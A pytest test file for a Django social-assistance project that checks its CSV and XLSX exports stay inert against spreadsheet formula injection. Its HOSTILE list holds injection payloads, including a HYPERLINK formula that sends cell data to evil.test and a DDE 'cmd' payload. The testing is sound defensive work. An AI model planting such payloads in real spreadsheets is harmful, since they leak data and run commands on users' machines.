"""Every spreadsheet the project writes is inert: hostile text never becomes a live formula.

The writers are found through dibao.spreadsheets (each registers itself with @spreadsheet_writer); every
registered writer must have a scenario here that feeds it hostile names, addresses, bank names and notes,
and a source scan fails on any CSV/XLSX writer outside the layer.
"""

import csv
import importlib
import io
import pkgutil
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from dibao import filecrypt, spreadsheets
from reports.definitions import REPORTS
from reports.models import Export
from reports.services import export_write_file
from tests.poverty_registry.conftest import csv_bytes as registry_csv
from tests.poverty_registry.conftest import row as registry_row
from tests.recipients.factories import make_case as recipient_case
from tests.recipients.factories import make_household as recipient_household
from tests.reports.factories import make_case as report_case

ROOT = Path(settings.BASE_DIR)
APP_PACKAGES = ("accounts", "audit", "cases", "demo", "dibao", "evidence", "households", "jobs", "overlaps",
                "poverty_registry", "recipients", "reports", "tabular", "golive")
HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&B2,"open")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=2+2",
)
LIVE_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _import_every_module():
    """Registration happens at import: load every module of the apps so no writer hides in an unimported one."""
    for package in APP_PACKAGES:
        module = importlib.import_module(package)
        for info in pkgutil.walk_packages(module.__path__, prefix=f"{package}."):
            if ".migrations" in info.name or info.name.endswith(("wsgi", "asgi")):
                continue
            importlib.import_module(info.name)


_import_every_module()


# -- reading the files back ----------------------------------------------------------------------------
def csv_cells(data: bytes) -> list[str]:
    assert data.startswith("\ufeff".encode()), "CSV without a byte-order mark"
    return [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in line]


def assert_csv_inert(data: bytes, expected: tuple[str, ...]) -> None:
    cells = csv_cells(data)
    live = [c for c in cells if c[:1] in LIVE_START and not PLAIN_NUMBER.fullmatch(c)]
    assert not live, f"live cells in the CSV: {live}"
    for text in expected:
        assert "'" + text in cells, f"{text!r} not written (behind a quote) in the CSV"


def assert_xlsx_inert(data: bytes, expected: tuple[str, ...]) -> None:
    workbook = load_workbook(io.BytesIO(data))
    strings = []
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    strings.append(cell.value)
                    if cell.value[:1] in LIVE_START and not PLAIN_NUMBER.fullmatch(cell.value):
                        assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} lacks the quote prefix"
    for text in expected:
        # XML reads a carriage return back as a line feed; the cell is text either way.
        assert text.replace("\r", "\n") in strings, f"{text!r} not kept as text in the XLSX"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def assert_inert(fmt: str, data: bytes, expected: tuple[str, ...]) -> None:
    (assert_csv_inert if fmt == "csv" else assert_xlsx_inert)(data, expected)


# -- scenarios: one per registered writer, each returns [(format, bytes, the hostile texts it must carry)] ---
def hostile_cases(village, county_officer):
    cases = []
    for n, text in enumerate(HOSTILE):
        case = report_case(village, county_officer, status="active", head=text, amount="300.00",
                           staff_relative=True, decided=date(2026, 1, 10))
        case.staff_relative_to = HOSTILE[-1 - n]
        case.staff_relative_relation = text
        case.save(update_fields=["staff_relative_to", "staff_relative_relation"])
        case.household.address = text
        case.household.save(update_fields=["address"])
        cases.append(case)
    return cases


def scenario_export_file(request):
    county_officer = request.getfixturevalue("county_officer")
    hostile_cases(request.getfixturevalue("village"), county_officer)
    outputs = []
    for key in REPORTS:
        for fmt in ("csv", "xlsx"):
            export = Export.objects.create(report=key, format=fmt, filters={}, requested_by=county_officer,
                                           row_count=0, streamed=False, expires_at=timezone.now() + timedelta(days=1))
            data = filecrypt.read_bytes(export_write_file(export=export))  # encrypted at rest
            carries = HOSTILE if key in ("case_register", "recipients_roster", "staff_relative") else ()
            outputs.append((fmt, data, carries))
    assert len(outputs) >= 10
    return outputs


def scenario_export_stream(request):
    county_officer = request.getfixturevalue("county_officer")
    hostile_cases(request.getfixturevalue("village"), county_officer)
    client = request.getfixturevalue("web")(county_officer)
    outputs = []
    for fmt in ("csv", "xlsx"):
        response = client.post("/reports/reports/case_register/export/", {"format": fmt})
        assert response.status_code == 200 and response.streaming
        outputs.append((fmt, b"".join(response.streaming_content), HOSTILE))
    return outputs


def _hostile_roll(request):
    from cases.months import add_months, first_of_month
    from recipients.services import payment_roll_generate

    village, county, officer = (request.getfixturevalue(n) for n in ("village", "county", "county_officer"))
    this_month = first_of_month(date.today())
    for n, text in enumerate(HOSTILE):
        household = recipient_household(village, head_name=text, bank_account=f"62284800123456{n:02d}")
        household.bank_name = HOSTILE[-1 - n]
        household.address = text
        household.save(update_fields=["bank_name", "address"])
        recipient_case(village, officer, household=household, first_payment_month=add_months(this_month, -3))
    return payment_roll_generate(actor=officer, county=county, month=add_months(this_month, -1))


def scenario_roll_csv(request):
    from recipients.exports import roll_csv

    data = roll_csv(_hostile_roll(request))
    assert "500.00" in data.decode("utf-8-sig")
    return [("csv", data, HOSTILE)]


def scenario_roll_xlsx(request):
    from recipients.exports import roll_xlsx

    data = roll_xlsx(_hostile_roll(request))
    sheet = load_workbook(io.BytesIO(data)).active
    amounts = [line[9].value for line in sheet.iter_rows(min_row=2, max_row=1 + len(HOSTILE))]
    assert amounts == [500] * len(HOSTILE), "amounts must stay numbers"
    return [("xlsx", data, HOSTILE)]


def scenario_import_errors(request):
    officer = request.getfixturevalue("county_officer")
    request.getfixturevalue("village")
    rows = [registry_row(n + 1, code=f"E{n}", name=text, status="poor") for n, text in enumerate(HOSTILE)]
    job = request.getfixturevalue("run_import")(officer, registry_csv(rows))
    assert job.counts["rows_failed"] == len(HOSTILE)
    # The reader strips the cells it reads: the tab- and CR-prefixed names arrive as "=1+1", "=2+2".
    return [("csv", filecrypt.read_bytes(Path(settings.VAR_DIR) / job.result_file),
             tuple(t.strip() for t in HOSTILE))]


def scenario_demo_registry_file(request):
    from demo.seed import poverty_registry as demo_registry

    request.getfixturevalue("village")
    patch = request.getfixturevalue("monkeypatch")
    patch.setattr(demo_registry, "_standard_monthly", lambda county: Decimal("700"))
    patch.setattr(demo_registry, "_dibao_rows", lambda year, standard: [
        [year, f"D{n}", "370283101201", text, "", "户主", 1, 3000, "registered", "", ""]
        for n, text in enumerate(HOSTILE)])
    patch.setattr(demo_registry, "_registry_only_rows", lambda year, standard, villages: [])
    return [("csv", demo_registry.build_file(2026).read_bytes(), HOSTILE)]


def _golive_batch(request, names, *, confirm=True):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from golive.models import RosterBatch
    from golive.services import roster_confirm, roster_upload
    from tests.golive.conftest import csv_bytes as roster_csv
    from tests.golive.conftest import member

    officer = request.getfixturevalue("county_officer")
    request.getfixturevalue("village")
    capture = request.getfixturevalue("django_capture_on_commit_callbacks")
    rows = [member(n + 1, code=f"G{n}", head=True, name=text, address=text) for n, text in enumerate(names)]
    with capture(execute=True):
        batch = roster_upload(actor=officer, uploaded=SimpleUploadedFile("roster.csv", roster_csv(rows)))
    batch = RosterBatch.objects.get(pk=batch.pk)
    if confirm:
        with capture(execute=True):
            roster_confirm(actor=officer, batch=batch, version=batch.version)
    return officer, RosterBatch.objects.get(pk=batch.pk)


def scenario_golive_row_errors(request):
    from golive.models import StagedRow
    from golive.staging import write_error_file

    officer, batch = _golive_batch(request, [t[:40] for t in HOSTILE], confirm=False)
    # Every name is valid; mark the staged rows as errors to have the file carry them.
    StagedRow.objects.filter(batch=batch).update(error_column="village_code", error_reason="x")
    data = filecrypt.read_bytes(Path(settings.VAR_DIR) / write_error_file(batch))  # encrypted at rest
    return [("csv", data, tuple(t[:40].strip() for t in HOSTILE))]


def scenario_golive_roster_export(request):
    from golive.exports import roster_xlsx

    officer, _batch = _golive_batch(request, [t[:40] for t in HOSTILE])
    return [("xlsx", roster_xlsx(officer), tuple(t[:40].strip() for t in HOSTILE))]


def scenario_import_template(request):
    from golive.layout import LAYOUT
    from tabular.workbooks import template_bytes

    example = {c: HOSTILE[n % len(HOSTILE)] for n, c in enumerate(LAYOUT.columns)}
    notes = {c: HOSTILE[-1 - n % len(HOSTILE)] for n, c in enumerate(LAYOUT.columns)}
    return [("xlsx", template_bytes(LAYOUT, example=example, notes=notes, title="t"), HOSTILE)]


SCENARIOS = {
    "golive.row_errors": scenario_golive_row_errors,
    "golive.roster_export": scenario_golive_roster_export,
    "tabular.import_template": scenario_import_template,
    "reports.export_file": scenario_export_file,
    "reports.export_stream": scenario_export_stream,
    "recipients.roll_csv": scenario_roll_csv,
    "recipients.roll_xlsx": scenario_roll_xlsx,
    "poverty_registry.import_errors": scenario_import_errors,
    "demo.poverty_registry_file": scenario_demo_registry_file,
}


@pytest.fixture
def var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path
    return tmp_path


@pytest.fixture
def run_import(django_capture_on_commit_callbacks):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from jobs.models import Job
    from poverty_registry.services import import_start

    def make(actor, data: bytes):
        with django_capture_on_commit_callbacks(execute=True):
            job = import_start(actor=actor, uploaded=SimpleUploadedFile("registry.csv", data), year=None)
        return Job.objects.get(pk=job.pk)

    return make


def test_every_registered_writer_has_a_hostile_scenario():
    assert set(spreadsheets.WRITERS) == set(SCENARIOS), (
        "a spreadsheet writer without a hostile-input scenario here (or a scenario for a writer that is gone)")


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(spreadsheets.WRITERS))
def test_registered_writer_output_is_inert(name, request, var_dir):
    outputs = SCENARIOS[name](request)
    assert outputs
    for fmt, data, carries in outputs:
        assert_inert(fmt, data, carries)


# -- the layer itself ----------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_is_quoted(text):
    data = spreadsheets.csv_bytes([["name"], [text, "张三", 7]])
    assert csv_cells(data) == ["name", "'" + text, "张三", "7"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_cell_is_a_string(text):
    data = spreadsheets.xlsx_bytes(["name"], [[text]])
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)


def test_numbers_stay_numbers():
    rows = [[-5, Decimal("-2.50"), "-120.50", 3.5, "0"]]
    assert csv_cells(spreadsheets.csv_bytes(rows)) == ["-5", "-2.50", "-120.50", "3.5", "0"]
    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(["a", "b", "c", "d", "e"], rows))).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        (-5, "n"), (-2.5, "n"), ("-120.50", "s"), (3.5, "n"), ("0", "s")]
    assert not any(c.quotePrefix for c in sheet[2])


def test_control_characters_do_not_break_the_workbook():
    data = spreadsheets.xlsx_bytes(["name"], [["张\x07三"]])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "张三"


def test_a_writer_name_is_registered_once():
    with pytest.raises(ValueError):
        spreadsheets.spreadsheet_writer("recipients.roll_csv")(lambda: None)


# -- no writer outside the layer -----------------------------------------------------------------------
RAW_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|WriteOnlyCell|from openpyxl import Workbook"
                         r"|openpyxl\.Workbook|import xlsxwriter|xlwt")
LAYER = ROOT / "dibao" / "spreadsheets.py"


def project_sources():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "var", "tests", "node_modules") or "migrations" in relative.parts:
            continue
        yield path, relative


def test_no_csv_or_xlsx_writer_outside_the_layer():
    offenders = [f"{relative}:{n}" for path, relative in project_sources() if path != LAYER
                 for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                 if RAW_WRITERS.search(line)]
    assert not offenders, f"write spreadsheets through dibao.spreadsheets: {offenders}"


def test_every_app_module_using_the_layer_registers_its_writer():
    unregistered = []
    for path, relative in project_sources():
        if path == LAYER or relative.parts[0] not in APP_PACKAGES:
            continue
        text = path.read_text(encoding="utf-8")
        if "dibao.spreadsheets" in text or "from dibao import spreadsheets" in text:
            if "@spreadsheet_writer(" not in text:
                unregistered.append(str(relative))
    assert not unregistered, f"modules writing spreadsheets without @spreadsheet_writer: {unregistered}"


def test_the_scan_sees_a_raw_writer():
    """The scan's own check: the pattern catches the usual ways of writing CSV/XLSX."""
    for line in ("w = csv.writer(fh)", "from openpyxl import Workbook", "wb = openpyxl.Workbook()",
                 "csv.DictWriter(fh, fields)"):
        assert RAW_WRITERS.search(line), line
